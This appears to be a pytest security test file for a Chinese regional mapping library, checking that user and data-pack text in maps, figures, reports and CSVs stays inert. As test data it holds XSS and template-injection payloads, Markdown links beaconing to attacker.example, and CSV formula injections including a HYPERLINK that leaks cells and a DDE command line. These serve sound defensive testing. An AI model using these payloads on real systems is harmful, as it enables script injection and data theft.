"""Nothing a user writes is ever executed (issue 9).

Every payload of ``tests/data/payloads.json`` goes into every place user text can enter an
output — map titles, value-column names, table keys (matched and unmatched), every text
field of a platform and cluster in a TOML file, report cells and column names — and is
opened in headless Chromium with the network blocked: no dialog, no injected element, no
page error, and the literal text is shown where it was put.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

import chuanyu_geo as cg
from chuanyu_geo import maps
from chuanyu_geo._safe import UnsafeTextError, check_tree, inert
from chuanyu_geo.report import AdjacencyReport

DATA = json.loads((Path(__file__).parent / "data" / "payloads.json").read_text(encoding="utf-8"))
LONG = ("{{7*7}}<b>长</b>" * 8000)[:100_000]  # a 100 kB string
PAYLOADS = [*DATA["text"], LONG]
IDS = [f"p{i}" for i in range(len(DATA["text"]))] + ["long100k"]


def _toml_str(value: str) -> str:
    return json.dumps(value)  # a JSON string with \\u escapes is a valid TOML basic string


def _platform_file(directory: Path, text: str, color: str = "#1b9e77") -> Path:
    s = _toml_str(text)
    path = directory / "platforms.toml"
    path.write_text(
        f"""
[[clusters]]
id = "c1"
name = {s}
name_en = {s}
clause = {s}
quote = {s}
color = {_toml_str(color)}

[[platforms]]
id = "p1"
name = {s}
name_in_plan = {s}
short_name = {s}
short_name_en = {s}
name_en = {s}
theme = {s}
theme_en = {s}
clause = {s}
quote = {s}
cluster = "c1"
footprint = "approximate"
footprint_note = {s}
partners = [{{ name = "遂宁", quoted = {s} }}, "潼南"]
""",
        encoding="utf-8",
    )
    return path


def _open(browser, path: Path):
    page = browser.new_page(viewport={"width": 1200, "height": 900})
    events = {"requests": [], "errors": [], "dialogs": []}
    page.on("request", lambda r: events["requests"].append(r.url))
    page.on("pageerror", lambda e: events["errors"].append(str(e)))
    page.on("console", lambda m: events["errors"].append(m.text) if m.type == "error" else None)
    page.on("dialog", lambda d: (events["dialogs"].append(d.message), d.dismiss()))
    page.route(
        "**/*", lambda route: route.continue_() if route.request.url.startswith("file:") else route.abort()
    )
    page.goto(path.as_uri())
    return page, events


INJECTED = """() => ({
  x: typeof window.__x,
  img: document.querySelectorAll('img[src="x"]').length,
  bold: [...document.querySelectorAll('b')].filter(b => b.textContent === '长').length,
  scripts: [...document.scripts].filter(s => ['alert(2)', 'window.__x=1', 'alert(1)'].includes(s.textContent.trim())).length,
})"""

# Hover (tooltip) or click (popup) the first GeoJSON feature whose properties have `prop`
# (and `adcode` == code when given), as Leaflet's own events, and return the text shown.
OPEN_TEXT = """([prop, kind, code]) => {
  for (const key of Object.keys(window)) {
    const value = window[key];
    if (!(value instanceof L.GeoJSON)) continue;
    let found = null;
    value.eachLayer(l => { if (!found && l.feature && prop in l.feature.properties && (!code || l.feature.properties.adcode === code)) found = l; });
    if (!found) continue;
    const latlng = found.getBounds().getCenter();
    if (kind === 'popup') { found.fire('click', {latlng}, true); return document.querySelector('.leaflet-popup-content').textContent; }
    found.fire('mouseover', {latlng}, true);
    const text = [...document.querySelectorAll('.leaflet-tooltip')].map(t => t.textContent).join(' | ');
    found.fire('mouseout', {latlng}, true);
    return text;
  }
  return null;
}"""


def _assert_inert(page, events) -> None:
    state = page.evaluate(INJECTED)
    assert events["dialogs"] == [], "a payload opened a dialog"
    assert state["x"] == "undefined", "a payload set window.__x"
    assert state["img"] == state["scripts"] == state["bold"] == 0, f"a payload became an element: {state}"
    assert events["errors"] == [], events["errors"]
    assert all(url.startswith("file:") for url in events["requests"]), events["requests"]


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """All outputs for every payload, built once, in a working directory that must stay empty."""
    base = tmp_path_factory.mktemp("payloads")
    cwd = os.getcwd()
    os.chdir(base)  # the mkdir payload would create ./x here
    try:
        built = {}
        for ident, text in zip(IDS, PAYLOADS):
            folder = base / ident
            folder.mkdir()
            user = cg.load_platforms(_platform_file(folder, text))
            built[ident, "platform"] = maps.save_map(
                cg.platform_map(platform_set=user, tiles=None, offline=True, title=text),
                folder / "platform.html",
            )
            table = pd.DataFrame({"key": ["万州", "开县", "梁平", text], text: [1.0, 2.0, 3.0, 4.0]})
            choropleth = cg.choropleth(
                table, text, "key", k=3, allow_partial=True, tiles=None, offline=True, title=text
            )
            built[ident, "choropleth"] = maps.save_map(choropleth, folder / "choropleth.html")
            built[ident, "adjacency"] = maps.save_map(
                cg.adjacency_map(tiles=None, offline=True, title=text), folder / "adjacency.html"
            )
            report = AdjacencyReport(
                meta=cg.adjacency_report().meta,
                tables={"pairs": pd.DataFrame({text: [text, "ok"], "n": [1, 2]})},
            )
            report.to_html(folder / "report.html")
            built[ident, "report"] = folder / "report.html"
        assert not (base / "x").exists(), "a template payload created a directory"
        assert sorted(p.name for p in base.iterdir()) == sorted(IDS), "nothing but our outputs was written"
        return built
    finally:
        os.chdir(cwd)


@pytest.mark.parametrize("ident,text", list(zip(IDS, PAYLOADS)), ids=IDS)
def test_platform_map_shows_payload_as_text(browser, pages, ident, text):
    page, events = _open(browser, pages[ident, "platform"])
    page.wait_for_function(
        "typeof L !== 'undefined' && document.querySelectorAll('path.chuanyu-unit').length > 0"
    )
    assert page.locator("h3.chuanyu-title").evaluate("e => e.textContent") == text
    assert text in page.locator(".chuanyu-legend").evaluate("e => e.textContent"), (
        "cluster name in the legend"
    )
    assert text in page.locator(".leaflet-control-layers-overlays").evaluate("e => e.textContent"), (
        "platform in the layer control"
    )
    popup = page.evaluate(OPEN_TEXT, ["popup", "popup", None])
    assert popup.count(text) >= 5, "name, short and English names, theme, note and cluster in the popup"
    assert text in page.evaluate(OPEN_TEXT, ["tip", "tooltip", None])
    assert text in page.evaluate(OPEN_TEXT, ["adcode", "tooltip", "510903"]), (
        "the unit tooltip lists its platform"
    )
    _assert_inert(page, events)
    page.close()


@pytest.mark.parametrize("ident,text", list(zip(IDS, PAYLOADS)), ids=IDS)
def test_choropleth_shows_payload_as_text(browser, pages, ident, text):
    page, events = _open(browser, pages[ident, "choropleth"])
    page.wait_for_function(
        "typeof L !== 'undefined' && document.querySelectorAll('path.chuanyu-unit').length > 0"
    )
    assert page.locator("h3.chuanyu-title").evaluate("e => e.textContent") == text
    legend = page.locator(".chuanyu-legend").evaluate("e => e.textContent")
    # The unmatched key is listed cut to 200 characters (a legend cannot hold megabytes of keys).
    key_shown = text if len(text) <= 200 else text[:200] + "…"
    assert text in legend, "the value column's name"
    assert (legend.count(text) >= 2) if key_shown == text else (key_shown in legend), "the unmatched key"
    tips = page.evaluate(OPEN_TEXT, ["adcode", "tooltip", "500101"])
    assert text in tips and "万州区" in tips, "the value column's name in a matched unit's tooltip"
    _assert_inert(page, events)
    page.close()


@pytest.mark.parametrize("ident,text", list(zip(IDS, PAYLOADS)), ids=IDS)
def test_adjacency_map_and_report_show_payload_as_text(browser, pages, ident, text):
    page, events = _open(browser, pages[ident, "adjacency"])
    page.wait_for_function(
        "typeof L !== 'undefined' && document.querySelectorAll('path.chuanyu-unit').length > 0"
    )
    assert page.locator("h3.chuanyu-title").evaluate("e => e.textContent") == text
    _assert_inert(page, events)
    page.close()
    page, events = _open(browser, pages[ident, "report"])
    assert page.locator("section table th").first.evaluate("e => e.textContent") == text
    assert page.locator("section table td").first.evaluate("e => e.textContent") == text
    _assert_inert(page, events)
    page.close()


def test_template_text_is_never_rendered():
    for text in DATA["text"]:
        page = maps._render(cg.platform_map(tiles=None, offline=True, title=text), offline=True)
        assert inert(text) in page
    page = cg.platform_map(title="{{7*7}}").get_root().render()
    assert "&#123;&#123;7*7&#125;&#125;" in page and ">49<" not in page


def test_tripwire_refuses_text_that_skipped_the_gate():
    m = cg.platform_map(tiles=None)
    m.get_root().html.add_child(maps._Html("{{ 7*7 }}"))  # a code path that forgot inert()
    with pytest.raises(UnsafeTextError, match="would run"):
        m.get_root().render()
    with pytest.raises(UnsafeTextError):
        check_tree(m)


def test_figure_text_is_never_mathtext():
    fig = cg.plot_platforms(lang="en", title="Share $x^{2}$ of {{7*7}}")
    title = fig.axes[0].title
    shown, is_math = title._preprocess_math(title.get_text())
    assert (shown, is_math) == ("Share $x^{2}$ of {{7*7}}", False)


# --------------------------------------------------------------------------- colours


@pytest.mark.parametrize("color", DATA["bad_colors"])
def test_bad_colours_raise_naming_file_cluster_and_value(tmp_path, color):
    path = _platform_file(tmp_path, "平台", color=color)
    with pytest.raises(cg.DefinitionError) as err:
        cg.load_platforms(path)
    message = str(err.value)
    assert str(path) in message and "cluster 'c1'" in message and repr(color) in message


def test_bad_colour_on_a_platform_built_in_code():
    from dataclasses import replace

    bad = replace(cg.platforms()[0], cluster_color='"><script>window.__x=1</script>')
    with pytest.raises(cg.DefinitionError, match=r"platform 'wandakai'.*color"):
        cg.platform_map(platform_set=[bad], tiles=None)


@pytest.mark.parametrize("color", DATA["good_colors"])
def test_good_colours_work(tmp_path, color):
    user = cg.load_platforms(_platform_file(tmp_path, "平台", color=color))
    page = cg.platform_map(platform_set=user, tiles=None).get_root().render()
    assert color in page


def test_text_fields_must_be_text(tmp_path):
    with pytest.raises(cg.DefinitionError, match=r"platform 'x': name must be text, got int"):
        cg.load_platforms({"platforms": [{"id": "x", "name": 5, "cluster": "central", "partners": ["遂宁"]}]})


# --------------------------------------------------------------------------- the command line


def _cli(args, cwd):
    return subprocess.run(
        [sys.executable, "-m", "chuanyu_geo.cli", *args], capture_output=True, text=True, cwd=cwd, timeout=300
    )


def test_cli_user_errors_are_one_line(tmp_path):
    earlier = tmp_path / "earlier"
    assert _cli(["report", "-o", str(earlier)], tmp_path).returncode == 0
    (tmp_path / "utf16.toml").write_bytes("[[platforms]]\nid = 'x'\n".encode("utf-16"))
    (tmp_path / "binary.toml").write_bytes(bytes(range(256)))
    (tmp_path / "adir").mkdir()
    cases = {
        ("report", "-o", "/proc/x"): "/proc/x",
        ("map", "--offline", "-o", "/proc/m.html"): "/proc/m.html",
        ("layers", "-o", "/proc/layers.txt"): "/proc/layers.txt",
        ("report", "--format", "md", "-o", str(earlier)): "is a directory",
        ("report", "-o", ".", "--force"): "current directory",
        ("platforms", "--file", "utf16.toml"): "utf16.toml",
        ("platforms", "--file", "binary.toml"): "not UTF-8",
        ("platforms", "--file", "adir"): "is a directory",
        ("platforms", "--file", "missing.toml"): "does not exist",
        ("report", "--format", "csv", "-o", str(earlier)): "--force",
    }
    for args, expected in cases.items():
        run = _cli(args, tmp_path)
        lines = run.stderr.strip().splitlines()
        assert run.returncode == 2, (args, run.stderr)
        assert len(lines) == 1 and "Traceback" not in run.stderr, (args, run.stderr)
        assert lines[0].startswith("chuanyu-geo: error: ") and expected in lines[0], (args, lines)
        assert "force=True" not in lines[0], "the CLI speaks --force, not Python"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["adir", "binary.toml", "earlier", "utf16.toml"], (
        "nothing left behind"
    )
    assert (earlier / "map.html").exists(), "the earlier full report is kept when --format csv is refused"


def test_cli_creates_parent_directories_for_every_output(tmp_path):
    from chuanyu_geo import cli

    assert cli.main(["map", "--offline", "-o", str(tmp_path / "a" / "m.html")]) == 0
    assert cli.main(["layers", "-o", str(tmp_path / "b" / "layers.txt")]) == 0
    assert cli.main(["report", "-o", str(tmp_path / "c" / "d")]) == 0
    assert (
        (tmp_path / "a" / "m.html").exists()
        and (tmp_path / "b" / "layers.txt").exists()
        and (tmp_path / "c" / "d" / "report.md").exists()
    )


def test_cli_version():
    run = subprocess.run(
        [sys.executable, "-m", "chuanyu_geo.cli", "--version"], capture_output=True, text=True
    )
    assert run.returncode == 0 and run.stdout.strip() == f"chuanyu-geo {cg.__version__}"


# --------------------------------------------------------------------------- what an outside audit found


def test_report_links_cannot_run_script(tmp_path):
    report = cg.adjacency_report()
    for link in (
        "javascript:alert(1)",
        " JavaScript:alert(1)",
        "data:text/html,x",
        "//evil.example/x",
        "map\n.html",
    ):
        with pytest.raises(cg.InvalidArgumentError, match="is not allowed"):
            report.to_html(map_link=link)
        with pytest.raises(cg.InvalidArgumentError, match="is not allowed"):
            report.to_markdown(map_link=link)
    assert 'href="map.html"' in report.to_html(map_link="map.html")


MALFORMED = [
    {"platforms": 5},
    {"clusters": [1], "platforms": [{"id": "x"}]},
    {"clusters": [{"id": 5}], "platforms": [{"id": "x"}]},
    {"plan_vintage": [1], "platforms": [{"id": "x"}]},
    {"platforms": [{"id": "x", "name": "a", "cluster": "central", "partners": 5}]},
    {
        "platforms": [
            {"id": "x", "name": "a", "cluster": "central", "partners": [{"name": "遂宁", "quoted": ["x"]}]}
        ]
    },
    {"platforms": [{"id": "x", "name": "a", "cluster": "central", "partners": ["遂宁"], "later": 5}]},
    {
        "platforms": [
            {
                "id": "x",
                "name": "a",
                "cluster": "central",
                "partners": ["遂宁"],
                "later": [{"fact": "f", "source": "s", "area_km2": "abc"}],
            }
        ]
    },
    {
        "platforms": [
            {
                "id": "x",
                "name": "a",
                "cluster": "central",
                "partners": ["遂宁"],
                "later": [{"fact": "f", "source": ["s"]}],
            }
        ]
    },
    {
        "platforms": [
            {
                "id": "x",
                "name": "a",
                "cluster": "central",
                "partners": ["遂宁"],
                "later": [{"fact": "f", "source": "s", "adds": 5}],
            }
        ]
    },
    {
        "platforms": [
            {
                "id": "x",
                "name": "a",
                "cluster": "central",
                "partners": ["遂宁"],
                "footprint": "approximate",
                "footprint_units": {"2024": 5, "2025": ["船山区"]},
            }
        ]
    },
]


@pytest.mark.parametrize("definition", MALFORMED, ids=range(len(MALFORMED)))
def test_malformed_definitions_are_definition_errors(definition):
    with pytest.raises(cg.DefinitionError):
        cg.load_platforms(definition)


def test_cli_malformed_and_special_files(tmp_path):
    (tmp_path / "types.toml").write_text(
        '[[platforms]]\nid = "x"\nname = "a"\ncluster = "central"\npartners = 5\n', encoding="utf-8"
    )
    (tmp_path / "deep.toml").write_text("x = " + "[" * 100_000 + "]" * 100_000 + "\n", encoding="utf-8")
    os.mkfifo(tmp_path / "fifo")
    for args, expected in (
        (["platforms", "--file", "types.toml"], "partners must be a list"),
        (["platforms", "--file", "deep.toml"], "deep.toml"),
        (["platforms", "--file", "fifo"], "not a regular file"),
        (["platforms", "--file", "/dev/zero"], "not a regular file"),
        (["layers", "-o", "fifo"], "not a regular file"),
    ):
        run = _cli(args, tmp_path)
        assert run.returncode == 2 and len(run.stderr.strip().splitlines()) == 1 and expected in run.stderr, (
            args,
            run.stderr[-500:],
        )
    assert (tmp_path / "fifo").is_fifo(), "an output never replaces a FIFO or a device"


def test_cli_never_replaces_the_directory_it_runs_in_even_through_a_symlink(tmp_path):
    work = tmp_path / "t" / "work"
    work.mkdir(parents=True)
    (work / "thesis.tex").write_text("precious")
    (tmp_path / "t" / "l").symlink_to(tmp_path / "t")
    run = _cli(["report", "-o", "../l/work", "--force"], work)
    assert run.returncode == 2 and "current directory" in run.stderr
    assert (work / "thesis.tex").read_text() == "precious"


def test_cli_undecodable_title_and_long_names(tmp_path):
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "chuanyu_geo.cli",
            "map",
            "--offline",
            "--title",
            os.fsdecode(b"T\xff"),
            "-o",
            "t.html",
        ],
        capture_output=True,
        cwd=tmp_path,
        timeout=300,
    )
    assert run.returncode == 0 and b"Traceback" not in run.stderr, run.stderr[-400:]
    assert "T\ufffd" in (tmp_path / "t.html").read_text(encoding="utf-8")
    long_file, long_dir = "m" * 245 + ".html", "r" * 240
    assert _cli(["map", "--offline", "-o", long_file], tmp_path).returncode == 0
    assert _cli(["report", "--format", "csv", "-o", long_dir], tmp_path).returncode == 0
    assert (tmp_path / long_file).exists() and (tmp_path / long_dir / "pairs.csv").exists()


@pytest.mark.parametrize("color", ["rgb(27, 158, 119)", "hsl(120, 50%, 40%)", "transparent"])
def test_css_colours_work_in_figures(tmp_path, color):
    import matplotlib.pyplot as plt

    user = cg.load_platforms(_platform_file(tmp_path, "平台", color=color))
    fig = cg.plot_platforms(platform_set=user, lang="en")
    fig.savefig(tmp_path / "f.png", dpi=40)
    plt.close(fig)


def test_choropleth_column_names_and_long_keys():
    table = pd.DataFrame({"k": [500101, 500102, None, 500104], 5: [1.0, 2.0, 3.0, 4.0]})
    m = cg.choropleth(table, 5, "k", k=3, tiles=None, allow_partial=True)
    assert list(m.unmatched["status"]) == ["missing key"], (
        "integer codes read through a float column still match"
    )
    with pytest.raises(cg.InvalidArgumentError, match="both 'k'"):
        cg.choropleth(table, "k", "k", tiles=None)
    start = __import__("time").perf_counter()
    with pytest.raises(cg.DefinitionError, match="does not resolve"):
        cg.load_platforms(
            {"platforms": [{"id": "x", "name": "a", "cluster": "central", "partners": ["遂" * 300_000]}]}
        )
    assert __import__("time").perf_counter() - start < 2, "a huge name is refused at once"


# --------------------------------------------------------------------------- issue 19: shared files

HOSTILE = "<img src=x onerror=alert(1)> $\\undefinedmacro$ {{7*7}} [x](javascript:alert(1))"

HOSTILE_CHILD = r"""
import json, subprocess, sys, warnings
from pathlib import Path
import matplotlib.text
import pandas as pd
import chuanyu_geo as cg
from chuanyu_geo import maps
warnings.simplefilter("ignore")
out = Path(sys.argv[1])
v = "2099"
for lang in ("zh", "en", "zh+en"):
    maps.save_map(cg.platform_map(vintage=v, tiles=None, offline=True, lang=lang), out / f"platform-{lang}.html")
maps.save_map(cg.adjacency_map(vintage=v, tiles=None, offline=True), out / "adjacency.html")
units = cg.unit_table("county", v)
table = pd.DataFrame({"adcode": units["adcode"], "lat": units["label_lat"]})
maps.save_map(cg.choropleth(table, "lat", "adcode", vintage=v, k=3, tiles=None, offline=True), out / "choropleth.html")
local = cg.lisa(table, "lat", "adcode", vintage=v, permutations=99, seed=1)
maps.save_map(cg.lisa_map(local, tiles=None, offline=True), out / "lisa.html")
cg.adjacency_report(vintage=v).write(out / "report", formats=("md", "html", "csv", "map"))
run = subprocess.run([sys.executable, "-m", "chuanyu_geo.cli", "map", "--offline", "--vintage", v, "-o",
                      str(out / "cli.html")], capture_output=True, text=True)
assert run.returncode == 0, run.stderr
texts = {}
for name, fig in (("platforms", cg.plot_platforms(vintage=v, lang="en")),
                  ("adjacency", cg.plot_adjacency(vintage=v, lang="en")),
                  ("lisa", cg.plot_lisa(local, lang="en"))):
    for ext in ("png", "pdf", "svg"):
        fig.savefig(out / f"{name}.{ext}")
    # As drawn: what matplotlib shows after its own mathtext preprocessing.
    texts[name] = [t._preprocess_math(t.get_text())[0] for t in fig.findobj(matplotlib.text.Text) if t.get_text()]
print(json.dumps(texts, ensure_ascii=False))
"""


@pytest.fixture(scope="module")
def hostile_pack(tmp_path_factory):
    """A shared data pack whose manifest ``source`` and vintage ``short``/``short_zh`` carry
    markup: every map, the report's map, the CLI map and the figures built from it."""
    from conftest import build_once, copy_vintage_layers

    def build(root: Path) -> None:
        pack = root / "pack"
        pack.mkdir()
        (pack / "vintages.toml").write_text(
            '[[vintages]]\nid = "2099"\ndate = "2099-12-31"\n'
            f"description = {_toml_str(HOSTILE)}\nshort = {_toml_str(HOSTILE)}\nshort_zh = {_toml_str(HOSTILE)}\n",
            encoding="utf-8",
        )
        copy_vintage_layers(pack, "2099", source=HOSTILE)
        (root / "out").mkdir()
        env = dict(os.environ, CHUANYU_GEO_DATA=str(pack), MPLBACKEND="Agg")
        run = subprocess.run(
            [sys.executable, "-c", HOSTILE_CHILD, str(root / "out")],
            capture_output=True,
            text=True,
            env=env,
            timeout=900,
            cwd=root,
        )
        assert run.returncode == 0, run.stderr[-3000:]
        (root / "texts.json").write_text(run.stdout.strip().splitlines()[-1], encoding="utf-8")

    # Built once per run, whichever pytest-xdist worker asks first (tests/conftest.py).
    root = build_once(tmp_path_factory, "hostile", build)
    return root / "out", json.loads((root / "texts.json").read_text(encoding="utf-8"))


HOSTILE_PAGES = [
    "platform-zh.html",
    "platform-en.html",
    "platform-zh+en.html",
    "adjacency.html",
    "choropleth.html",
    "lisa.html",
    "report/map.html",
    "cli.html",
]


@pytest.mark.parametrize("name", HOSTILE_PAGES)
def test_data_pack_text_in_the_attribution_is_shown_not_run(browser, hostile_pack, name):
    out, _ = hostile_pack
    page, events = _open(browser, out / name)
    page.wait_for_selector(".leaflet-control-attribution")
    attribution = page.locator(".leaflet-control-attribution").inner_text()
    assert "<img src=x onerror=alert(1)>" in attribution, attribution
    assert "{{7*7}}" in attribution and "49" not in attribution
    assert (
        page.locator(
            ".leaflet-control-attribution img, .leaflet-control-attribution a[href^=javascript]"
        ).count()
        == 0
    )
    _assert_inert(page, events)
    page.close()


def test_data_pack_text_in_figures_is_literal_and_saves(hostile_pack):
    out, texts = hostile_pack
    for name in ("platforms", "adjacency", "lisa"):
        for ext in ("png", "pdf", "svg"):
            assert (out / f"{name}.{ext}").stat().st_size > 1000, (name, ext)
        assert any(HOSTILE in t for t in texts[name]), f"{name}: the source is shown as written"
    svg = (out / "platforms.svg").read_text(encoding="utf-8")
    assert "<img" not in svg and "&lt;img src=x" in svg


def test_report_of_a_data_pack_escapes_its_markdown_and_html(hostile_pack):
    out, _ = hostile_pack
    md = (out / "report" / "report.md").read_text(encoding="utf-8")
    import markdown

    rendered = markdown.markdown(md, extensions=["tables"])
    assert "<img" not in md and "<img" not in rendered and 'href="javascript' not in rendered
    html = (out / "report" / "report.html").read_text(encoding="utf-8")
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html


def test_tripwire_refuses_raw_markup_that_skipped_the_gate():
    from chuanyu_geo._safe import html_hazard

    for markup in (
        "<img src=x onerror=alert(1)>",
        "<span onmouseover=alert(1)>x</span>",
        "<a href='javascript:alert(1)'>x</a>",
        '<a href="java&#115;cript:alert(1)">x</a>',
        "<div style='background:url(http://attacker.example/b.png)'>x</div>",
        "<svg/onload=alert(1)>",
        "<!-- x -->",
        "<script>alert(1)</script>",
        "<iframe src=x>",
        "<img src=x onerror=alert(1)",  # unclosed at the end of the text
    ):
        assert html_hazard(markup), markup
    for ours in (
        "<span style='color:#555'>万州区</span>",
        "<div><b>遂潼</b><br>&lt;img&gt;</div>",
        '<a href="https://www.openstreetmap.org/copyright">OpenStreetMap</a>',
        "1 &lt; 2",
    ):
        assert html_hazard(ours) is None, ours
    m = cg.platform_map(tiles=None)
    maps._Attribution("<b>x</b>").add_to(m)  # made inert by the element itself
    m.get_root().render()
    m = cg.platform_map(tiles=None)
    m.get_root().html.add_child(maps._Html("<img src=x onerror=alert(1)>"))  # a path that forgot inert()
    with pytest.raises(UnsafeTextError, match="markup"):
        m.get_root().render()


# Strings that must stay text in Markdown (Python-Markdown and markdown-it-py), as links,
# images, code, cell breaks or raw HTML they would not be.
MARKDOWN_PAYLOADS = [
    "[x](javascript:alert(1))",
    "![](http://attacker.example/beacon.png)",
    "a\\|b",
    "a|b|c",
    "x>)[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "[a]: javascript:alert(1)",
    "<http://attacker.example>",
    "&#91;x&#93;(javascript:alert(1))",
    "`code` *em* _u_ \\",
]


@pytest.mark.parametrize("renderer", ["python-markdown", "markdown-it-py"])
def test_report_markdown_renders_as_text(renderer):
    import re

    if renderer == "python-markdown":
        import markdown

        def render(text):
            return markdown.markdown(text, extensions=["tables"])
    else:
        from markdown_it import MarkdownIt

        render = MarkdownIt("commonmark").enable("table").render
    meta = {**cg.adjacency_report().meta, "level": MARKDOWN_PAYLOADS[0], "vintage": MARKDOWN_PAYLOADS[1]}
    tables = {"t_1": pd.DataFrame({p: [p, "ok"] for p in MARKDOWN_PAYLOADS})}
    html = render(AdjacencyReport(meta=meta, tables=tables).to_markdown())
    assert "<img" not in html and 'href="javascript' not in html and "<a " not in html
    assert "<code>" not in html and "<em>" not in html
    table = html[html.index("<table") : html.index("</table>")]
    rows = re.findall(r"<tr>(.*?)</tr>", table, re.S)
    assert [len(re.findall(r"<t[hd][ >]", row)) for row in rows] == [len(MARKDOWN_PAYLOADS)] * 3
    import html as htmllib

    cells = [htmllib.unescape(c) for c in re.findall(r"<td[^>]*>(.*?)</td>", rows[1], re.S)]
    assert cells == [" ".join(p.split()) for p in MARKDOWN_PAYLOADS]


@pytest.mark.parametrize(
    "link",
    [
        "javascript&colon;alert(1)",
        "&#106;avascript:alert(1)",
        "java\tscript:alert(1)",
        "x>)[click](javascript:alert(1))",
        "/\\evil.example/x",
        "\\\\evil.example\\share",
        'map.html" onclick="alert(1)',
        "a b.html",
        "C:/x",
        "",
    ],
)
def test_safe_link_refuses_bypasses(link):
    report = cg.adjacency_report()
    with pytest.raises(cg.InvalidArgumentError, match="is not allowed"):
        report.to_markdown(map_link=link or " ")
    with pytest.raises(cg.InvalidArgumentError, match="is not allowed"):
        report.to_html(map_link=link or " ")


@pytest.mark.parametrize(
    "name", ["../escaped", "../../victim/keep", "/tmp/absolute", "a/b", "nul", "", "x.csv", 5]
)
def test_report_table_names_cannot_leave_the_folder(tmp_path, name):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.csv").write_text("kept\n", encoding="utf-8")
    meta = cg.adjacency_report().meta
    with pytest.raises(cg.InvalidArgumentError, match="table name"):
        AdjacencyReport(meta=meta, tables={name: pd.DataFrame({"a": [1]})})
    report = AdjacencyReport(meta=meta, tables={"ok": pd.DataFrame({"a": [1]})})
    report.tables[name] = pd.DataFrame({"a": [1]})  # added after construction: checked on write
    work = tmp_path / "work"
    for call in (
        lambda: report.write(work / "report"),
        lambda: report.to_csv(work / "csv"),
        report.to_markdown,
    ):
        with pytest.raises(cg.InvalidArgumentError, match="table name"):
            call()
    assert (victim / "keep.csv").read_text(encoding="utf-8") == "kept\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["victim"], "nothing written anywhere"


def test_report_formats_are_checked(tmp_path):
    report = cg.adjacency_report()
    for formats in (("pdf",), ("md", "docx"), (), "xlsx"):
        with pytest.raises(cg.InvalidArgumentError, match="formats="):
            report.write(tmp_path / "r", formats=formats)
    assert not (tmp_path / "r").exists()
    assert (report.write(tmp_path / "r", formats="md") / "report.md").exists()


FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+cmd",
    "@SUM(A1)",
    "\tx",
    "\rx",
]


def _formula_cells(path: Path) -> list[str]:
    import csv

    with open(path, encoding="utf-8-sig", newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    return [
        c
        for c in cells
        if c[:1] in ("=", "+", "-", "@", "\t", "\r")
        and pd.to_numeric(c, errors="coerce") != pd.to_numeric(c, errors="coerce")
    ]


def test_report_csvs_hold_no_formulas(tmp_path):
    meta = cg.adjacency_report().meta
    table = pd.DataFrame(
        {
            "text": FORMULAS,
            "number": [-1.5, 2, -3, 4, 5, 6, 7],
            "numtext": ["-1.5", "+2", "-3e2", "4", "5", "6", "7"],
        }
    )
    table["=header"] = 1
    folder = AdjacencyReport(meta=meta, tables={"t": table}).to_csv(tmp_path / "csv")
    assert _formula_cells(folder / "t.csv") == []
    back = pd.read_csv(folder / "t.csv", encoding="utf-8-sig", keep_default_na=False)
    assert back["text"].tolist() == ["'" + f for f in FORMULAS]
    assert back["number"].tolist() == [-1.5, 2, -3, 4, 5, 6, 7], "numbers stay numbers"
    as_text = pd.read_csv(folder / "t.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert as_text["numtext"].tolist() == table["numtext"].tolist(), (
        "numbers written as text are not prefixed"
    )
    assert "'=header" in back.columns
    raw = AdjacencyReport(meta=meta, tables={"t": table}).to_csv(tmp_path / "raw", escape_formulas=False)
    assert pd.read_csv(raw / "t.csv", encoding="utf-8-sig")["text"].tolist()[0] == FORMULAS[0]
    for name in cg.adjacency_report().write(tmp_path / "full").glob("*.csv"):
        assert _formula_cells(name) == [], name


def test_cli_report_csvs_take_raw_csv(tmp_path):
    from chuanyu_geo import cli

    assert cli.main(["report", "--format", "csv", "-o", str(tmp_path / "safe")]) == 0
    assert cli.main(["report", "--format", "csv", "-o", str(tmp_path / "raw"), "--raw-csv"]) == 0
    for path in (tmp_path / "safe").glob("*.csv"):
        assert _formula_cells(path) == [], path
        assert path.read_bytes() == (tmp_path / "raw" / path.name).read_bytes(), (
            "our own tables hold no formulas"
        )


# --------------------------------------------------------------------------- second audit of issue 19


def test_tripwire_reads_a_tag_to_its_end_outside_quotes():
    from chuanyu_geo._safe import html_hazard

    assert html_hazard('<b title="a>b" onclick=alert(1)>x</b>')
    assert html_hazard("<b title='a>b' onmouseover=alert(1)>x</b>")
    assert html_hazard('<span style="color:#555" title="1 > 0">ok</span>') is None


@pytest.mark.parametrize("name", ["COM¹", "lpt²", "CON", "Aux"])
def test_windows_device_names_are_not_table_names(name):
    with pytest.raises(cg.InvalidArgumentError, match="table name"):
        AdjacencyReport(meta=cg.adjacency_report().meta, tables={name: pd.DataFrame({"a": [1]})})


def test_report_csvs_of_odd_tables_hold_no_formulas(tmp_path):
    meta = cg.adjacency_report().meta
    mi = pd.DataFrame(
        [[1, "=x"]], columns=pd.MultiIndex.from_tuples([('=HYPERLINK("http://e")', "a"), ("b", "@c")])
    )
    with pytest.raises(cg.InvalidArgumentError, match="MultiIndex"):
        AdjacencyReport(meta=meta, tables={"mi": mi}).write(tmp_path / "mi", formats=("csv",))
    odd = pd.DataFrame({"c": pd.Categorical(["=x", "ok"]), "d": ["@a", "b\rc"], "e": ["-1", "+cmd"]})
    odd.columns = ["c", "c", pd.Timestamp("2020-01-01")]
    folder = AdjacencyReport(meta=meta, tables={"odd": odd}).to_csv(tmp_path / "odd")
    assert _formula_cells(folder / "odd.csv") == []
    import csv

    with open(folder / "odd.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert [len(r) for r in rows] == [3, 3, 3] and rows[2][1] == "b\rc", "a CR stays inside its cell"


def test_choropleth_legend_lists_a_few_unmatched_keys():
    keys = [f"未知{i}" + "x" * 5000 for i in range(2000)]
